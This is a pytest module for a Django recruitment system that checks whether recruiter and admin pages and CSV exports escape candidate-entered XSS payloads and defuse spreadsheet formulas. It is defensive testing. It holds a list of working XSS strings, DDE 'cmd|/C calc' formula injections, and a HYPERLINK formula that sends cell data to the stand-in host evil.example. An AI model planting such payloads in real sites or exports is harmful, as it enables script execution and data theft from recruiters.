"""XSS payloads through every candidate-entered field into every recruiter view and export.

Each payload is stored as a candidate would leave it (profile details copied into the application
snapshot and into a referral, application answers, referees, knock-out answers, the CV's display name, the criminal
record self-disclosure, an enquiry with its message) without going through the input forms, which
accept these strings as text anyway (SafeTextMixin): what is tested is the way out. Every view and
export a recruiter, coordinator or regional admin uses to read them is fetched, and must show the
payload as text: no element or attribute it injected, no `javascript:` link, and every CSV cell that
a spreadsheet would read as a formula defused. Prints "N payloads × M views held"."""

from __future__ import annotations

import csv
import io
from html import escape
from html.parser import HTMLParser

import pytest

from django.urls import reverse
from django.utils import timezone

from ats.models import Membership, Offer, Referral, RoutingDecision
from tests.factories import (
    ApplicationFactory,
    CVFactory,
    EnquiryFactory,
    MembershipFactory,
    UserFactory,
    VacancyFactory,
)

PAYLOADS = [
    "<script>alert('xss0')</script>",
    "\"><img src=x onerror=alert('xss1')>",
    "javascript:alert('xss2')",
    "<svg onload=alert('xss3')><script>alert('xss3')</script></svg>",
    "'><a href=\"javascript:alert('xss4')\">click</a>",
    "</textarea></title><iframe src=javascript:alert('xss5')>",
    '=HYPERLINK("http://evil.example/?leak="&A1,"xss6 click me")',
    "+cmd|' /C calc'!A0 xss7",
    "@SUM(1+1)*cmd|' /C calc'!A0 xss8",
    "-2+3+cmd|' /C calc'!A0 xss9",
]
MARKERS = [f"xss{n}" for n in range(len(PAYLOADS))]
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "data", "srcdoc"}
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")

_results: list[tuple[str, int, int]] = []  # (view, payloads, held)


class _Injected(HTMLParser):
    """Collects anything a payload managed to turn into markup or script."""

    def __init__(self, markers: list[str]) -> None:
        super().__init__(convert_charrefs=True)
        self.markers = markers
        self.problems: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            value = (value or "").strip()
            if name.startswith("on") and any(m in value for m in self.markers):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if name in URL_ATTRIBUTES and value.lower().replace("\t", "").startswith("javascript:"):
                self.problems.append(f"<{tag} {name}={value!r}>")
            if tag == "img" and value == "x" and name == "src":
                self.problems.append("<img src=x> element")

    def handle_endtag(self, tag):
        self._in_script = False

    def handle_data(self, data):
        if self._in_script and any(m in data for m in self.markers):
            self.problems.append(f"<script> containing {data[:60]!r}")


def injected(html: str) -> list[str]:
    parser = _Injected(MARKERS)
    parser.feed(html)
    return parser.problems


def rendered_as_text(html: str, payload: str) -> bool:
    """The payload shows on the page, escaped (so the sweep is not vacuous)."""
    return escape(payload) in html or escape(payload, quote=False) in html


@pytest.fixture
def candidate_data(employer_a, recruiter_a, academy, coordinator):
    """One application per payload (every candidate text field set to it) to employer A's vacancy,
    at the offer stage so the disclosure, CV and identity all show; and one enquiry per payload,
    routed to employer A."""
    vacancy = VacancyFactory(organisation=employer_a, title="Care assistant", slug="care-assistant-xss")
    MembershipFactory(organisation=employer_a, role=Membership.Role.ADMIN, user__email="ada@alpha.example")
    applications, decisions = [], []
    for n, payload in enumerate(PAYLOADS):
        candidate = UserFactory(email=f"cand{n}@seeker.example", first_name=payload, last_name=payload)
        cv = CVFactory(candidate=candidate, original_name=payload)
        answers = {
            "details": {"first_name": payload, "last_name": payload, "phone": payload, "postcode": payload},
            "statement": {"personal_statement": payload},
            "experience": {"qualifications": payload},
            "screening": {"q1": payload},
        }
        application = ApplicationFactory(
            vacancy=vacancy,
            candidate=candidate,
            offer=True,
            cv=cv,
            snapshot={
                "name": f"{payload} {payload}",
                "email": candidate.email,
                "phone": payload,
                "postcode": payload,
                "answers": answers,
                "sections": [
                    {"key": "statement", "title": "Statement", "rows": [{"label": "Why", "value": payload}]}
                ],
                "referees": [{"name": payload, "relationship": payload, "contact": payload}],
                "cv": {"public_id": str(cv.public_id), "name": payload},
            },
            knockout_flags=[{"question": "Can you work weekends?", "answer": payload}],
        )
        Offer.objects.create(
            application=application,
            has_unspent_convictions=True,
            disclosure_details=payload,
            disclosed_at=timezone.now(),
        )
        applications.append(application)
        enquiry = EnquiryFactory(
            name=payload, phone="07700 900456", message=payload, experience="experienced"
        )
        decisions.append(
            RoutingDecision.objects.create(
                enquiry=enquiry,
                destination=employer_a,
                rule_name="Experienced: matching providers",
                reason="Sent to Alpha Home Care.",
            )
        )
    # The same enquiries unrouted, as the regional admin sees them in the Wagtail admin.
    unrouted = [EnquiryFactory(name=p, message=p, experience="none") for p in PAYLOADS]
    # Profiles passed on by the academy to employer A (a referral shares a copy of profile fields).
    referrals = [
        Referral.objects.create(
            from_org=academy,
            to_org=employer_a,
            candidate=application.candidate,
            consent_at=timezone.now(),
            shared={"name": p, "email": p, "phone": p, "postcode": p, "interests": [p], "availability": [p]},
            note=p,
        )
        for p, application in zip(PAYLOADS, applications, strict=True)
    ]
    return {
        "vacancy": vacancy,
        "applications": applications,
        "decisions": decisions,
        "unrouted": unrouted,
        "referrals": referrals,
    }


def _html_views(data, employer_a):
    vacancy = data["vacancy"]
    yield (
        "recruit: pipeline list",
        "recruiter",
        [reverse("recruit:application-list", args=[vacancy.public_id])],
    )
    yield "recruit: board", "recruiter", [reverse("recruit:board", args=[vacancy.public_id])]
    yield (
        "recruit: application page",
        "recruiter",
        [reverse("recruit:application-detail", args=[a.public_id]) for a in data["applications"]],
    )
    yield "recruit: enquiries inbox", "recruiter", [reverse("routing:inbox")]
    yield (
        "recruit: referral page (profile)",
        "recruiter",
        [reverse("routing:referral", args=[r.pk]) for r in data["referrals"]],
    )
    yield (
        "recruit: enquiry page",
        "recruiter",
        [reverse("routing:decision", args=[d.pk]) for d in data["decisions"]],
    )
    yield (
        "admin: routing decision inspect",
        "admin",
        [f"/admin/routing_decisions/inspect/{d.pk}/" for d in data["decisions"]],
    )
    yield "admin: unrouted enquiries", "admin", ["/admin/unrouted_enquiries/"]
    yield (
        "admin: unrouted enquiry inspect",
        "admin",
        [f"/admin/unrouted_enquiries/inspect/{e.pk}/" for e in data["unrouted"]],
    )
    yield "admin: unrouted enquiry search", "admin", ["/admin/unrouted_enquiries/?q=xss"]


def test_xss_payloads_in_candidate_fields_show_as_text_in_every_recruiter_view(
    client, home_page, candidate_data, recruiter_a, regional_admin, employer_a
):
    failures = []
    shown_somewhere = set()
    for view, who, urls in _html_views(candidate_data, employer_a):
        client.force_login(recruiter_a if who == "recruiter" else regional_admin)
        pages = []
        for url in urls:
            response = client.get(url)
            assert response.status_code == 200, f"{view}: {url} answered {response.status_code}"
            pages.append(response.content.decode())
        html = "\n".join(pages)
        problems = injected(html)
        shown = 0
        for payload in PAYLOADS:
            if payload in html and any(ch in payload for ch in "<>\"'"):
                problems.append(f"raw payload {payload[:40]!r}")
            elif rendered_as_text(html, payload):
                shown_somewhere.add(payload)
                shown += 1
        if not shown:
            failures.append(f"{view}: shows none of the payloads, so it proves nothing")
        if problems:
            failures.append(f"{view}: {problems[:5]}")
        _results.append((view, shown, 0 if problems else shown))

    assert not failures, "\n".join(failures)
    # Not vacuous: every payload was on at least one page, as text.
    assert shown_somewhere == set(PAYLOADS)


def test_each_candidate_field_reaches_the_application_page_as_text(
    client, home_page, candidate_data, recruiter_a
):
    """The sweep above counts payloads per view; this pins the fields: CV name, disclosure, answers,
    knock-out answer and contact details each show the payload as text on the application page."""
    client.force_login(recruiter_a)
    application = candidate_data["applications"][0]
    page = client.get(reverse("recruit:application-detail", args=[application.public_id])).content.decode()
    shown = escape(PAYLOADS[0])

    assert f"Download CV ({shown})" in page
    assert f"The candidate disclosed: {shown}" in page
    assert f"<dt>Phone</dt><dd>{shown}</dd>" in page
    assert page.count(shown) >= 8  # name twice, phone, postcode, answers, referees, flags, CV, disclosure
    assert not injected(page)


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def _csv_exports(data, employer_a):
    yield "recruit: pipeline CSV export", "recruiter", reverse("recruit:export", args=[employer_a.public_id])
    yield "admin: routing decisions CSV", "admin", "/admin/routing_decisions/?export=csv"


def test_csv_exports_defuse_formulas_and_keep_payloads_as_text(
    client, home_page, candidate_data, recruiter_a, regional_admin, employer_a
):
    failures = []
    for view, who, url in _csv_exports(candidate_data, employer_a):
        client.force_login(recruiter_a if who == "recruiter" else regional_admin)
        response = client.get(url)
        assert response.status_code == 200, f"{view}: {url} answered {response.status_code}"
        body = b"".join(response.streaming_content) if response.streaming else response.content
        rows = _cells(body.decode("utf-8-sig"))
        dangerous = [cell for row in rows[1:] for cell in row if cell.startswith(FORMULA_START)]
        text = "\n".join(",".join(row) for row in rows)
        exported = [p for p in PAYLOADS if p.replace('"', "") in text.replace('"', "")]
        if dangerous:
            failures.append(f"{view}: formula cells {dangerous[:3]}")
        if not exported:
            failures.append(f"{view}: exports none of the payloads, so it proves nothing")
        _results.append((view, len(exported), 0 if dangerous else len(exported)))

    assert not failures, "\n".join(failures)


@pytest.mark.parametrize(
    "page",
    [
        "<p><script>alert('xss0')</script></p>",
        "<p><img src=x onerror=alert('xss1')></p>",
        "<a href=\"javascript:alert('xss2')\">x</a>",
        "<svg onload=alert('xss3')></svg>",
        "<iframe src=javascript:alert('xss5')></iframe>",
    ],
)
def test_the_sweep_would_catch_a_payload_rendered_unescaped(page):
    assert injected(page)


def test_print_the_xss_sweep_summary(capsys):
    """Runs last in this module: N payloads × M views held."""
    if not _results:
        return  # the sweep did not run (a subset of the suite): nothing to print
    views = len(_results)
    all_held = sum(1 for _, tried, held in _results if held == tried)
    cases = sum(tried for _, tried, _ in _results)
    with capsys.disabled():
        print(
            f"\nXSS sweep: {len(PAYLOADS)} payloads × {views} views and exports: "
            f"{cases} payload-in-view cases, {sum(held for *_, held in _results)} held"
        )
        for view, tried, held in _results:
            print(f"  {view:<36} {held}/{tried} payloads shown there held")
    assert all_held == views
